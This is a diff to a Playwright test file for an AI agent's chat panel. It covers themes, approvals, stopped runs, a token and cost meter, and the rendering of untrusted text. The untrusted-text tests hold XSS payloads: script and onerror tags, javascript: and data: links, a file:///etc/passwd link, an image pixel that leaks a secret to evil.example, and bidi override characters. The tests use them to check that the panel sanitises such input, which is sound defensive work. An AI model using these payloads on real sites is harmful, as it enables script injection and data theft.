@@ -1,10 +1,12 @@
 import { AxeBuilder } from '@axe-core/playwright';
+import * as fc from 'fast-check';
 import type { Browser, Locator } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
 import type { ApprovalRequest } from '../../src/agent/approval.ts';
 import type { ChatEvent } from '../../src/chat/chat-state.ts';
 import type { ContextChip, HostMessage, WebviewMessage } from '../../src/chat/messages.ts';
 import {
+  hourly,
   messagePreview,
   messageRequest,
   ticketRequest,
@@ -112,6 +114,7 @@ describe.each<[Theme, number]>([
   ['light', 300],
   ['dark', 400],
   ['high-contrast', 700],
+  ['high-contrast-light', 500],
 ])('in %s, %d px wide', (theme, width) => {
   test('every state is accessible, and nothing but tables and code scrolls sideways', async () => {
     const panel = await open(theme, width);
@@ -276,7 +279,7 @@ describe('an approval', () => {
     const revised = { ...ticketRequest.arguments, summary: 'Orders to PR fail', labels: ['orders', 'tax'] };
     expect(await panel.sent()).toEqual([{ type: 'revise', ...card, arguments: revised }]);
     const request = { ...ticketRequest, id: 'approval-1b', sha256: 'd'.repeat(64), arguments: revised };
-    await panel.post(projection.apply([{ type: 'approval-requested', request }]));
+    await panel.post(projection.apply([{ type: 'approval-requested', ...request }]));
     await button(panel, 'Approve').click();
     expect(await panel.sent()).toEqual([
       { type: 'approve', requestId: 'approval-1b', sha256: 'd'.repeat(64), scope: 'once' },
@@ -301,7 +304,7 @@ describe('an approval', () => {
       inputSchema: { type: 'object', properties: { retries: { type: 'integer' }, note: { type: 'string' } } },
     };
     const request = { ...ticketRequest, tool, preview: undefined, arguments: { retries: 3 } };
-    const panel = await after(...untilTicket.slice(0, -1), { type: 'approval-requested', request });
+    const panel = await after(...untilTicket.slice(0, -1), { type: 'approval-requested', ...request });
     await button(panel, 'Edit').click();
     await panel.page.getByRole('textbox', { name: 'retries' }).fill('many');
     await button(panel, 'Update Preview').click();
@@ -450,12 +453,138 @@ describe('what was read and written', () => {
   });
 });
 
+describe('a run that stopped', () => {
+  const stopped = (reason: 'budget' | 'cancelled' | 'failed', code?: string): readonly ChatEvent[] => [
+    { type: 'run-started', session: 's', run: 'r7', time: '', model: 'm', prompt: 'Investigate' },
+    { type: 'evidence-added', callId: 'c', evidence: hourly },
+    { type: 'run-finished', reason, message: 'Found so far: E2 (Query database).', writeNotGranted: false, code },
+  ];
+
+  test.each([
+    ['budget', 'Continue'],
+    ['cancelled', 'Continue'],
+    ['failed', 'Try Again'],
+  ] as const)('by %s goes on as that run, by the button %s', async (reason, name) => {
+    const panel = await after(...stopped(reason));
+    await button(panel, name).click();
+    expect(await panel.sent()).toEqual([{ type: 'resume', run: 'r7' }]);
+  });
+
+  test('goes on without its prompt being shown a second time', async () => {
+    const start = {
+      type: 'run-started',
+      session: 's',
+      run: 'r8',
+      time: '',
+      model: 'm',
+      prompt: 'Investigate',
+    } as const;
+    const panel = await after(...stopped('budget'), { ...start, resumed: true });
+    expect(await panel.page.locator('.prompt').count()).toBe(1);
+    await panel.page.getByRole('heading', { name: 'Continued' }).waitFor();
+    expect(await button(panel, 'Continue').count()).toBe(0);
+  });
+
+  test('names its evidence as links', async () => {
+    const panel = await after(...stopped('budget'));
+    expect(await panel.page.locator('.run-end').getByRole('button', { name: 'E2', exact: true }).count()).toBe(1);
+  });
+
+  test('with an outcome that is not known is not simply tried again', async () => {
+    const panel = await after(...stopped('failed', 'outcome_unknown'));
+    expect(await panel.page.locator('.run-end').innerText()).toContain('Outcome unknown.');
+    expect(await button(panel, 'Try Again').count()).toBe(0);
+    await button(panel, 'Open Audit Log').click();
+    expect(await panel.sent()).toEqual([{ type: 'run-command', command: 'switchboard.openAuditLog' }]);
+  });
+});
+
+describe('the meter', () => {
+  const forecast = { tokens: 45_000, cost: 0.12, runs: 3 };
+  const start: ChatEvent = {
+    type: 'run-started',
+    session: 's',
+    run: 'r',
+    time: '',
+    model: 'm',
+    prompt: 'Investigate',
+    runbook: { name: 'failed-orders', parameters: {} },
+    forecast,
+  };
+  const usage = { turns: 3, toolCalls: 2, inputTokens: 40_000, cacheReadTokens: 0, outputTokens: 1_200, cost: 0.0613 };
+
+  test('shows the forecast before, what was used of it during, and the session after a run', async () => {
+    const panel = await after(start);
+    const meter = panel.page.locator('.meter');
+    const words = async (): Promise<string> => (await meter.innerText()).replaceAll(/\s+/gu, ' ');
+    expect(await words()).toBe('~45k tokens · ~$0.12');
+    expect(await meter.getAttribute('title')).toContain('the median of 3 runs of failed-orders');
+    await panel.post(panel.projection.apply([{ type: 'usage-changed', usage }]));
+    expect(await words()).toBe('41.2k of ~45k tokens · $0.06 of ~$0.12');
+    await panel.post(
+      panel.projection.apply([{ type: 'run-finished', reason: 'completed', message: 'Done.', writeNotGranted: false }]),
+    );
+    expect(await words()).toBe('41.2k tokens · $0.06');
+  });
+
+  test('a forecast is spoken when the run begins', async () => {
+    const { page } = await after(start);
+    expect(await page.locator('[aria-live=polite]').textContent()).toBe(
+      'Working on it. It may use about 45k tokens, $0.12.',
+    );
+  });
+});
+
 describe('what strangers wrote', () => {
   const hostile = `<img src=x onerror="window.hacked = 1"> <script>window.hacked = 2</script>
 
 ![pixel](https://evil.example/p.png?d=secret) [run](command:workbench.action.quit) [js](javascript:window.hacked=3)
 [data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [up](../../../etc/passwd.txt)
 [https://bank.example](https://evil.example/login) https://user:pass@evil.example/ <https://ok.example/>`;
+
+  /** What hostile documents are put together from. */
+  const pieces = [
+    '<script>window.hacked=1</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<a href="javascript:1">',
+    '</main>',
+    '<!--',
+    ']]>',
+    '[a](javascript:alert(1))',
+    '[b](command:x)',
+    '![c](data:image/svg+xml,<svg/>)',
+    '[d](vscode://x)',
+    '[e]: x',
+    '<https://ok.example>',
+    '`',
+    '```html\n',
+    '| a |\n| - |\n',
+    '> ',
+    '- ',
+    '1. ',
+    '# ',
+    '\n',
+    '\n\n',
+    '**',
+    '_',
+    '\u202E',
+    '&lt;b&gt;',
+    '&#x6A;avascript:',
+    'E1',
+    '${alert(1)}',
+    '\\',
+  ];
+
+  const elements =
+    'a blockquote br button code div em h2 h3 h4 hr li ol p pre s span strong table tbody td th thead tr ul'.split(' ');
+
+  /** Names of elements, and whatever attribute or address is none that we draw. */
+  const whatIsDrawn = `[...new Set([...document.querySelectorAll('markdown-text *, .prompt *')].flatMap((node) => [
+    node.localName,
+    ...[...node.attributes].filter(({ name }) => /^on|^style$|^src/.test(name)).map(({ name }) => 'attribute ' + name),
+    ...(node.localName === 'a' && !/^(?:https?:|#)/.test(node.getAttribute('href')) ? ['address ' + node.href] : []),
+  ]))]`;
 
   test('is text: no element of it, no request for it, no dangerous address', async () => {
     const panel = await open();
@@ -477,6 +606,29 @@ describe('what strangers wrote', () => {
     );
     expect(panel.requests()).toEqual([]);
     expect(await page.locator('markdown-text').first().innerText()).toContain('https://bank.example (evil.example)');
+  });
+
+  test('is nothing but these elements, whatever it is', async () => {
+    const documents = fc.sample(fc.array(fc.constantFrom(...pieces), { maxLength: 80 }), { numRuns: 40, seed: 2026 });
+    const events = documents.map((parts, index): ChatEvent[] => [
+      { type: 'run-started', session: 's', run: `r${index}`, time: '', model: 'm', prompt: parts.join(' ') },
+      { type: 'text-delta', text: parts.join('') },
+    ]);
+    const panel = await after(...events.flat());
+    const found: unknown = await panel.page.evaluate(whatIsDrawn);
+    expect(found).toEqual(expect.arrayContaining(['a', 'blockquote', 'pre', 'table', 'button', 'code']));
+    expect(elements).toEqual(expect.arrayContaining(Array.isArray(found) ? found : ['no list']));
+    expect(panel.requests()).toEqual([]);
+    expect(await panel.page.evaluate('window.hacked')).toBeUndefined();
+  });
+
+  test('reads in the direction of its script, and cannot turn what stands around it', async () => {
+    const { page } = await after(...saying('فشلت الطلبات\n\n> אחד\n\nPay \u202Eevil\u202C `x\u2066y`\n\n- one'));
+    const directions = page
+      .locator('.markdown > *')
+      .evaluateAll((nodes) => nodes.map((node) => getComputedStyle(node).direction));
+    expect(await directions).toEqual(['rtl', 'rtl', 'ltr', 'ltr']);
+    expect(await page.locator('.markdown').innerText()).toContain('Pay [U+202E]evil[U+202C] x[U+2066]y');
   });
 
   test('may be named like a part of JavaScript itself', async () => {
@@ -530,6 +682,41 @@ describe('the projection', () => {
     expect(await page.locator('.markdown').innerText()).toMatch(/Last words and bold and\s+a\s+b\s+c/u);
   });
 
+  test('shows nothing before the host has told what there is', async () => {
+    const panel = await after(...saying('Hello'));
+    await panel.page.reload();
+    await panel.page.waitForSelector('.composer');
+    await panel.post();
+    expect(await panel.page.locator('.empty, run-view').count()).toBe(0);
+    await panel.post(panel.projection.snapshot());
+    expect(await panel.page.locator('run-view').count()).toBe(1);
+  });
+
+  test('a message in no known shape changes nothing', async () => {
+    const panel = await after(...saying('Hello'));
+    const odd = [null, 'state', [], {}, { type: 'constructor' }, { type: 'state' }, { type: 'state', state: null }];
+    const more = [
+      { type: 'events', events: 5, sequence: 9 },
+      { type: 'events', events: [null], sequence: 3 },
+    ];
+    const others = ['context', 'connections', 'insert-prompt', 'notice', 'focus'].map((type) => ({ type }));
+    await panel.page.evaluate(
+      `for (const message of ${JSON.stringify([...odd, ...more, ...others])}) window.postMessage(message, '*')`,
+    );
+    await panel.post(panel.projection.apply([{ type: 'text-delta', text: ' again' }]));
+    expect(await panel.page.locator('.markdown').innerText()).toBe('Hello again');
+    expect(await panel.page.locator('.bar').count()).toBe(0);
+    expect(await panel.sent()).toEqual([]);
+  });
+
+  test('a session that is opened stands at its end', async () => {
+    const panel = await open();
+    await panel.post(panel.projection.reset([...untilTicket, ...untilMessage, ...untilEnd]));
+    const below = `(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight)(document.querySelector('.transcript'))`;
+    expect(await panel.page.evaluate(`document.querySelector('.transcript').scrollTop > 0`)).toBe(true);
+    await eventually(() => panel.page.evaluate(below)).toBeLessThan(2);
+  });
+
   test('a missed message is noticed, and the whole state asked for again', async () => {
     const panel = await after(...saying('One'));
     panel.projection.apply([{ type: 'text-delta', text: ' two' }]);
@@ -563,7 +750,7 @@ describe('the projection', () => {
 });
 
 function approval(request: ApprovalRequest): ChatEvent {
-  return { type: 'approval-requested', request };
+  return { type: 'approval-requested', ...request };
 }
 
 async function addressesOf(links: Locator): Promise<readonly (string | null)[]> {
